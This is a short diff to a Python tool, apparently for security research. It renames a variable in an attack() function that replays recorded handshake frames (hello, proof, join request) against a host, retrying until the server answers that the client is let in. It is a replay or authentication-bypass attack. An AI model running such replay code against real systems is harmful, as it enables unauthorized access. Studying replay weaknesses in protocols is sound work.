@@ -101,13 +101,13 @@ def record(interface: str, port: str, file: str) -> None:
 
 
 def attack(host: str, port: str, file: str, proof_of) -> None:
-    """Again and again: the recorded hello, a proof, the recorded greeting."""
+    """Again and again: the recorded hello, a proof, the recorded join request."""
     with open(file, "rb") as recorded:
-        hello, proof, greeting = frames(recorded.read())[:3]
+        hello, proof, request = frames(recorded.read())[:3]
     for attempt in itertools.count():
         connection = connected(host, port)
         if attempt % 2:  # all at once, without waiting for the challenge
-            connection.sendall(hello + proof + greeting)
+            connection.sendall(hello + proof + request)
             challenge = read_frame(connection)
         else:
             connection.sendall(hello)
@@ -115,7 +115,7 @@ def attack(host: str, port: str, file: str, proof_of) -> None:
             if challenge[4:5] == bytes([CHALLENGE]):
                 if attempt == 0:
                     say("challenged")
-                connection.sendall(proof_of(challenge, proof) + greeting)
+                connection.sendall(proof_of(challenge, proof) + request)
         while answer := read_frame(connection):
             if answer[4] == ACCEPTED:
                 say("let in")
